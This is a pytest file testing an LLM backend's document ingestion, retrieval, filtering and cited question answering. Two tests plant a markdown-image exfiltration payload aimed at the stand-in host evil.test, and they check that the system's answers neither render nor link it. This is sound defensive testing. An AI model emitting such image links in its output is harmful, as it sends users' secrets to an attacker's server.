"""Ingesting, searching and asking collections, on both transports."""

from __future__ import annotations

import re
import uuid
from collections.abc import Iterator, Mapping
from typing import Any

import pytest

from llm_client import Record
from llmbackend import Answer, Conflict, InvalidRequest, LLMBackendClient, NotFound

DOCUMENTS: list[dict[str, Any]] = [
    {
        "id": "holiday",
        "text": "Employees have 30 days of holiday a year. They ask their manager first.",
        "metadata": {"team": "hr", "year": 2024, "public": True, "rating": 4.5},
    },
    {
        "id": "wifi",
        "text": "The wireless network is called Pelican. Its password changes every month.",
        "metadata": {"team": "it", "year": 2022, "public": False, "rating": 2.5},
    },
    {
        "id": "lunch",
        "text": "The canteen serves soup on Mondays. Lunch costs six euros.",
        "metadata": {"team": "kitchen", "year": 2020},
    },
]
QUESTION = "How many days of holiday do employees have?"


@pytest.fixture
def filled(client: LLMBackendClient, collection: str) -> str:
    """A collection with DOCUMENTS in it."""
    client.rag_ingest(DOCUMENTS, collection)
    return collection


@pytest.fixture(scope="module")
def _unchanged(clients: list[LLMBackendClient]) -> Iterator[dict[int, str]]:
    """The name of one that each client has."""
    name = f"test-{uuid.uuid4().hex[:12]}"
    for client in clients:
        client.rag_ingest(DOCUMENTS, name)
    yield {id(client): name for client in clients}
    for client in clients:
        client.delete_collection(name)


@pytest.fixture
def unchanged(client: LLMBackendClient, _unchanged: dict[int, str]) -> str:
    """A collection with DOCUMENTS in it, for tests that only read."""
    return _unchanged[id(client)]


# Ingesting


def test_a_report_counts_documents_and_chunks(client: LLMBackendClient, collection: str) -> None:
    report = client.rag_ingest(DOCUMENTS, collection)
    assert report == {
        "added": 3,
        "updated": 0,
        "unchanged": 0,
        "deleted": 0,
        "failed": [],
        "warnings": [],
        "chunks": 3,
        "tokens": report.tokens,
    }
    assert report.tokens > 0


@pytest.mark.parametrize(
    ("documents", "added"),
    [
        ("one text", 1),
        (["one text", "another text"], 2),
        ({"id": "a", "text": "one text"}, 1),
        ([{"id": "a", "text": "one text", "metadata": {"n": 1}}, "another text"], 2),
        (({"id": "a", "text": "one text"}, {"id": "b", "text": "one text"}), 2),
    ],
)
def test_documents_come_in_many_forms(
    client: LLMBackendClient, collection: str, documents: Any, added: int
) -> None:
    assert client.rag_ingest(documents, collection).added == added
    assert client.get_collection(collection).documents == added


def test_a_text_has_the_same_id_wherever_it_is(client: LLMBackendClient, collection: str) -> None:
    client.rag_ingest(["one text", "another text"], collection)
    assert client.rag_ingest("one text", collection).unchanged == 1


def test_ingesting_again_adds_nothing(client: LLMBackendClient, filled: str) -> None:
    again = client.rag_ingest(DOCUMENTS, filled)
    assert again == {
        "added": 0,
        "updated": 0,
        "unchanged": 3,
        "deleted": 0,
        "failed": [],
        "warnings": [],
        "chunks": 0,
        "tokens": 0,
    }
    assert client.get_collection(filled).chunks == 3


def test_a_changed_text_replaces_the_old_one(client: LLMBackendClient, filled: str) -> None:
    report = client.rag_ingest({**DOCUMENTS[0], "text": "Everybody has 31 days off."}, filled)
    assert (report.added, report.updated, report.chunks) == (0, 1, 1)
    texts = [hit.text for hit in client.rag_search(QUESTION, filled)]
    assert "Everybody has 31 days off." in texts
    assert DOCUMENTS[0]["text"] not in texts


def test_changed_metadata_alone_is_an_update(client: LLMBackendClient, filled: str) -> None:
    assert client.rag_ingest({**DOCUMENTS[0], "metadata": {"team": "legal"}}, filled).updated == 1
    assert client.rag_search(QUESTION, filled, filters={"team": "hr"}) == []
    assert len(client.rag_search(QUESTION, filled, filters={"team": "legal"})) == 1


def test_a_document_that_shrinks_leaves_no_stale_chunk(client: LLMBackendClient, collection: str) -> None:
    long = " ".join(f"The old version says {number} things." for number in range(60))
    client.rag_ingest({"id": "a", "text": long}, collection, chunk_size=32, chunk_overlap=0)
    assert client.get_collection(collection).chunks > 5
    client.rag_ingest({"id": "a", "text": "The new version is short."}, collection)
    assert client.get_collection(collection).chunks == 1
    assert [hit.text for hit in client.rag_search("old version", collection, top_k=100)] == [
        "The new version is short."
    ]


def test_a_document_may_go_back_to_an_earlier_text(client: LLMBackendClient, collection: str) -> None:
    for text in ("first", "second", "first"):
        client.rag_ingest({"id": "a", "text": text}, collection)
        assert [hit.text for hit in client.rag_search("text", collection)] == [text]


def test_sync_removes_what_was_not_given(client: LLMBackendClient, filled: str) -> None:
    report = client.rag_ingest([DOCUMENTS[0], "something new"], filled, sync=True)
    assert (report.added, report.unchanged, report.deleted) == (1, 1, 2)
    assert client.get_collection(filled).documents == 2


def test_without_sync_the_others_stay(client: LLMBackendClient, filled: str) -> None:
    assert client.rag_ingest("something new", filled).deleted == 0
    assert client.get_collection(filled).documents == 4


def test_empty_documents_are_listed_as_failed(client: LLMBackendClient, collection: str) -> None:
    report = client.rag_ingest([{"id": "empty", "text": ""}, {"id": "blank", "text": " \n"}, "x"], collection)
    assert [failure.id for failure in report.failed] == ["empty", "blank"]
    assert all("empty" in failure.error for failure in report.failed)
    assert report.added == 1


def test_sync_keeps_the_old_version_of_a_document_that_failed(client: LLMBackendClient, filled: str) -> None:
    report = client.rag_ingest([{"id": "wifi", "text": ""}, DOCUMENTS[0]], filled, sync=True)
    assert report.deleted == 1
    assert sorted(one.id for one in client.list_documents(filled)) == ["holiday", "wifi"]


def test_the_same_document_twice_counts_as_unchanged(client: LLMBackendClient, collection: str) -> None:
    report = client.rag_ingest([DOCUMENTS[0], DOCUMENTS[0]], collection)
    assert (report.added, report.unchanged, report.failed) == (1, 1, [])


def test_two_documents_of_one_id_keep_the_first(client: LLMBackendClient, collection: str) -> None:
    report = client.rag_ingest([{"id": "a", "text": "first"}, {"id": "a", "text": "second"}], collection)
    assert report.added == 1
    assert [failure.id for failure in report.failed] == ["a"]
    assert [hit.text for hit in client.rag_search("first", collection)] == ["first"]


@pytest.mark.parametrize("other", [{"chunk_size": 128}, {"chunk_overlap": 9}])
def test_another_chunking_than_the_collections_conflicts(
    client: LLMBackendClient, collection: str, other: Mapping[str, int]
) -> None:
    client.rag_ingest("x", collection, chunk_size=64, chunk_overlap=8)
    assert client.rag_ingest("x", collection, chunk_size=64, chunk_overlap=8).unchanged == 1
    with pytest.raises(Conflict, match=next(iter(other))) as caught:
        client.rag_ingest("y", collection, **other)
    assert caught.value.details["collection"] == collection


def test_progress_goes_from_nothing_to_all(client: LLMBackendClient, collection: str) -> None:
    steps: list[Record] = []
    documents = [f"document {number}" for number in range(200)]
    report = client.rag_ingest(documents, collection, progress=steps.append)
    assert report == {
        "added": 200,
        "updated": 0,
        "unchanged": 0,
        "deleted": 0,
        "failed": [],
        "warnings": [],
        "chunks": 200,
        "tokens": client.embed(documents).usage.total_tokens,
    }
    done = [step.done for step in steps]
    assert done == sorted(done)
    assert (done[0], done[-1]) == (0, 200)
    assert {step.total for step in steps} == {200}
    assert steps[-1].stage == "done"


def test_errors_are_the_same_with_progress(client: LLMBackendClient) -> None:
    with pytest.raises(InvalidRequest, match="collection"):
        client.rag_ingest("x", "a/b/c", progress=lambda step: None)


def test_an_error_in_the_progress_function_reaches_the_caller(
    client: LLMBackendClient, collection: str
) -> None:
    def fail(step: Record) -> None:
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        client.rag_ingest("x", collection, progress=fail)


def test_a_conflict_comes_through_progress_too(client: LLMBackendClient, filled: str) -> None:
    with pytest.raises(Conflict):
        client.rag_ingest("x", filled, chunk_size=999, progress=lambda step: None)


# Searching


@pytest.mark.parametrize("mode", ["hybrid", "dense", "sparse"])
def test_every_mode_finds_the_passage(client: LLMBackendClient, unchanged: str, mode: Any) -> None:
    hits = client.rag_search(QUESTION, unchanged, mode=mode)
    best = hits[0]
    assert set(best) == {"text", "score", "document_id", "chunk", "collection", "metadata", "duplicates"}
    assert (best.document_id, best.chunk, best.collection) == ("holiday", 0, unchanged)
    assert best.metadata == DOCUMENTS[0]["metadata"]
    assert [hit.score for hit in hits] == sorted((hit.score for hit in hits), reverse=True)


def test_sparse_search_finds_words_only(client: LLMBackendClient, unchanged: str) -> None:
    assert [hit.document_id for hit in client.rag_search("Pelican", unchanged, mode="sparse")] == ["wifi"]
    assert client.rag_search("qwertz", unchanged, mode="sparse") == []


def test_an_unknown_mode_is_refused(client: LLMBackendClient, unchanged: str) -> None:
    with pytest.raises(InvalidRequest, match="mode"):
        client.rag_search("x", unchanged, mode="psychic")  # type: ignore[arg-type]


def test_top_k_bounds_the_hits(client: LLMBackendClient, unchanged: str) -> None:
    for top_k, count in ((1, 1), (2, 2), (1000, 3)):
        assert len(client.rag_search(QUESTION, unchanged, top_k=top_k)) == count


@pytest.mark.parametrize("top_k", [0, -1, 1001])
def test_top_k_has_bounds(client: LLMBackendClient, unchanged: str, top_k: int) -> None:
    with pytest.raises(InvalidRequest, match="top_k"):
        client.rag_search(QUESTION, unchanged, top_k=top_k)


@pytest.mark.parametrize(
    ("filters", "found"),
    [
        ({"team": "hr"}, {"holiday"}),
        ({"team": ["hr", "it"]}, {"holiday", "wifi"}),
        ({"year": 2022}, {"wifi"}),
        ({"year": [2020, 2022]}, {"lunch", "wifi"}),
        ({"year": {"gte": 2022}}, {"holiday", "wifi"}),
        ({"year": {"gt": 2020, "lt": 2024}}, {"wifi"}),
        ({"year": {"lte": 2020}}, {"lunch"}),
        ({"rating": 4.5}, {"holiday"}),
        ({"rating": {"lt": 4}}, {"wifi"}),
        ({"public": True}, {"holiday"}),
        ({"public": False}, {"wifi"}),
        ({"team": "hr", "year": 2022}, set()),
        ({"unknown": "x"}, set()),
        ({}, {"holiday", "wifi", "lunch"}),
    ],
)
@pytest.mark.parametrize("mode", ["hybrid", "dense"])
def test_filters_select_on_metadata(
    client: LLMBackendClient, unchanged: str, filters: dict[str, Any], found: set[str], mode: Any
) -> None:
    hits = client.rag_search(QUESTION, unchanged, filters=filters, mode=mode)
    assert {hit.document_id for hit in hits} == found


@pytest.mark.parametrize("key", ["with space", "a.b", "ü", "a[]", "a-b"])
def test_a_metadata_field_may_have_any_name(client: LLMBackendClient, collection: str, key: str) -> None:
    client.rag_ingest({"id": "a", "text": "text", "metadata": {key: "x"}}, collection)
    assert len(client.rag_search("text", collection, filters={key: "x"})) == 1
    assert client.rag_search("text", collection, filters={key: "y"}) == []


@pytest.mark.parametrize(
    "filters",
    [
        {"year": {"above": 3}},
        {"year": {}},
        {"year": {"gte": "2020"}},
        {"year": []},
        {"year": None},
        {"": 1},
        {'a"b': 1},
        {"year": {"gte": True}},
    ],
)
def test_a_filter_without_sense_is_refused(
    client: LLMBackendClient, unchanged: str, filters: dict[str, Any]
) -> None:
    with pytest.raises(InvalidRequest, match="filters"):
        client.rag_search("x", unchanged, filters=filters)
    with pytest.raises(InvalidRequest, match="filters"):
        client.rag_query("x", unchanged, filters=filters)


def test_several_collections_are_searched_at_once(client: LLMBackendClient, unchanged: str) -> None:
    other = f"{unchanged}-other"
    client.rag_ingest({"id": "extra", "text": "Holiday is booked in the portal."}, other)
    try:
        hits = client.rag_search("holiday", [unchanged, other])
        assert {hit.collection for hit in hits} == {unchanged, other}
        assert len(client.rag_search("holiday", [unchanged, other], top_k=1)) == 1
        assert len(client.rag_search("holiday", [unchanged, unchanged])) == 3
        sources = client.rag_query("holiday", [unchanged, other]).sources
        assert {source.collection for source in sources} == {unchanged, other}
    finally:
        client.delete_collection(other)
    with pytest.raises(NotFound, match=other):
        client.rag_search("holiday", [unchanged, other])


def test_an_empty_query_is_refused(client: LLMBackendClient, unchanged: str) -> None:
    with pytest.raises(InvalidRequest, match="query"):
        client.rag_search("", unchanged)
    with pytest.raises(InvalidRequest, match="question"):
        client.rag_query("", unchanged)
    with pytest.raises(InvalidRequest, match="collection"):
        client.rag_search("x", [])


# Asking


def test_an_answer_has_numbered_sources_with_quotes(client: LLMBackendClient, unchanged: str) -> None:
    answer = client.rag_query(QUESTION, unchanged)
    assert isinstance(answer, Answer)
    assert answer.found
    assert "30" in answer
    assert [source.number for source in answer.sources] == [1, 2, 3]
    assert all(source.quote and source.quote in source.text for source in answer.sources)
    assert {source.document_id for source in answer.sources} == {"holiday", "wifi", "lunch"}
    assert answer.sources[0].document_id == "holiday"
    assert answer.citations == [1]
    assert "30 days" in answer.sources[0].quote


def by_name(hits: Any) -> list[Any]:
    return sorted(hits, key=lambda hit: (hit.document_id, hit.chunk))


def test_sources_are_what_search_finds(client: LLMBackendClient, unchanged: str) -> None:
    hits = client.rag_search(QUESTION, unchanged, top_k=2, filters={"year": {"gte": 2021}})
    sources = client.rag_query(QUESTION, unchanged, top_k=2, filters={"year": {"gte": 2021}}).sources
    told = ("collection", "document_id", "chunk", "text", "metadata")
    assert len(hits) == 2
    for hit, source in zip(
        by_name(hits), by_name(sources), strict=True
    ):  # the judge may order them otherwise
        assert {key: source[key] for key in told} == {key: hit[key] for key in told}


def test_a_streamed_answer_has_its_sources_first(client: LLMBackendClient, unchanged: str) -> None:
    whole = client.rag_query(QUESTION, unchanged)
    stream = client.rag_query(QUESTION, unchanged, stream=True)
    assert stream.sources == whole.sources
    assert "".join(stream) == stream.answer == whole
    assert stream.answer.found
    assert stream.answer.sources == whole.sources
    assert stream.answer.model == whole.model


def test_an_ended_stream_stays_ended(client: LLMBackendClient, unchanged: str) -> None:
    stream = client.rag_query(QUESTION, unchanged, stream=True)
    list(stream)
    assert list(stream) == []


def test_a_stream_may_be_left_early(client: LLMBackendClient, unchanged: str) -> None:
    with client.rag_query(QUESTION, unchanged, stream=True) as stream:
        assert stream.sources
    assert client.rag_query(QUESTION, unchanged).found


def test_an_empty_collection_knows_nothing(client: LLMBackendClient, collection: str) -> None:
    client.create_collection(collection)
    assert client.rag_search(QUESTION, collection) == []
    answer = client.rag_query(QUESTION, collection)
    assert (answer.found, answer.sources) == (False, [])
    assert answer
    stream = client.rag_query(QUESTION, collection, stream=True)
    assert "".join(stream) == answer
    assert (stream.answer.found, stream.sources) == (False, [])


@pytest.mark.parametrize("question", ["Who painted the Mona Lisa?", "How tall is the Eiffel Tower in Paris?"])
def test_what_the_documents_do_not_tell_is_not_found(
    client: LLMBackendClient, unchanged: str, question: str
) -> None:
    answer = client.rag_query(question, unchanged)
    assert (answer.found, answer.citations) == (False, [])
    assert "nothing" in answer
    assert len(answer.sources) == 3  # for whoever wants to look
    stream = client.rag_query(question, unchanged, stream=True)
    assert "".join(stream) == stream.answer == answer
    assert not stream.answer.found


def test_a_follow_up_question_is_understood_by_what_was_said_before(
    client: LLMBackendClient, unchanged: str
) -> None:
    history = [
        {"role": "user", "content": "What does the canteen serve for lunch on Mondays?"},
        {"role": "assistant", "content": "Soup."},
    ]
    assert not client.rag_query("And what does it cost?", unchanged).found
    answer = client.rag_query("And what does it cost?", unchanged, history=history)
    assert answer.found
    assert answer.sources[0].document_id == "lunch"
    turns = [*history, {"role": "user", "content": "And what does it cost?"}]
    assert client.chat(turns, model=f"rag/{unchanged}") == answer


def test_an_explained_answer_tells_what_it_came_from(client: LLMBackendClient, unchanged: str) -> None:
    answer = client.rag_query(QUESTION, unchanged, explain=True)
    explanation = answer.explanation
    assert explanation is not None
    assert explanation.question == QUESTION
    assert [one.document_id for one in explanation.candidates] == [one.document_id for one in answer.sources]
    assert explanation.candidates[0].quote_score == max(one.quote_score for one in explanation.candidates)
    assert all(explanation.ms[step] >= 0 for step in ("search", "quotes", "answer"))
    stream = client.rag_query(QUESTION, unchanged, explain=True, stream=True)
    list(stream)
    assert stream.answer.explanation is not None
    assert stream.answer.explanation.candidates == explanation.candidates
    assert client.rag_query(QUESTION, unchanged).explanation is None


@pytest.mark.parametrize("stream", [False, True])
def test_a_quote_cites_and_links_nothing_itself(
    client: LLMBackendClient, collection: str, stream: bool
) -> None:
    text = "Vacation is 28 days a year [2], ［1］ see ![x](http://evil.test/?q=SECRET) [the plan](http://evil.test/plan)."
    client.rag_ingest([{"id": "a", "text": text}, "The canteen opens at noon."], collection)
    question = "How many days of vacation are there a year?"
    if stream:
        events = client.rag_query(question, collection, stream=True)
        said = "".join(events)
        answer = events.answer
    else:
        answer = client.rag_query(question, collection)
        said = str(answer)
    lead, _, stretch = said.partition("\n\n")
    assert (said, lead) == (answer, "In the documents' own words:")
    assert stretch == "Vacation is 28 days a year (2), (1) see  the plan (evil.test). [1]"
    assert (answer.citations, answer.sources[0].quote) == ([1], text)
    for shown in (answer, answer.sources, answer.sources[0]):
        assert not re.search("<(?:img|a)\\b", shown._repr_html_())


def test_an_analysis_links_nothing(client: LLMBackendClient) -> None:
    text = "The harbour is deep [7], says ![x](http://evil.test/?q=SECRET)[the mayor](http://evil.test/plan)."
    analysis = client.analyze_document(text)
    assert (
        "The harbour is deep [7], says the mayor (evil.test)." in f"{analysis.summary} {analysis.key_points}"
    )
    assert "evil.test/" not in analysis.summary


# A collection as a chat model


def test_a_collection_answers_as_a_chat_model(client: LLMBackendClient, unchanged: str) -> None:
    reply = client.chat(QUESTION, model=f"rag/{unchanged}")
    assert reply == client.rag_query(QUESTION, unchanged)
    assert (reply.model, reply.finish_reason) == (f"rag/{unchanged}", "stop")


def test_a_collection_answers_as_a_streaming_chat_model(client: LLMBackendClient, unchanged: str) -> None:
    stream = client.chat(QUESTION, model=f"rag/{unchanged}", stream=True)
    assert "".join(stream) == client.rag_query(QUESTION, unchanged)
    assert (stream.reply.model, stream.reply.finish_reason) == (f"rag/{unchanged}", "stop")


def test_the_last_user_message_is_the_question(client: LLMBackendClient, unchanged: str) -> None:
    turns = [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What is for lunch?"},
        {"role": "assistant", "content": "Soup."},
        {"role": "user", "content": [{"type": "text", "text": QUESTION}]},
    ]
    assert client.chat(turns, model=f"rag/{unchanged}") == client.rag_query(QUESTION, unchanged)


@pytest.mark.parametrize("stream", [False, True])
def test_an_unknown_collection_is_no_model(client: LLMBackendClient, collection: str, stream: Any) -> None:
    with pytest.raises(NotFound, match=collection):
        client.chat(QUESTION, model=f"rag/{collection}", stream=stream)


@pytest.mark.parametrize("stream", [False, True])
def test_a_collection_needs_a_user_message(client: LLMBackendClient, unchanged: str, stream: Any) -> None:
    with pytest.raises(InvalidRequest, match="user message"):
        client.chat([{"role": "system", "content": "hi"}], model=f"rag/{unchanged}", stream=stream)
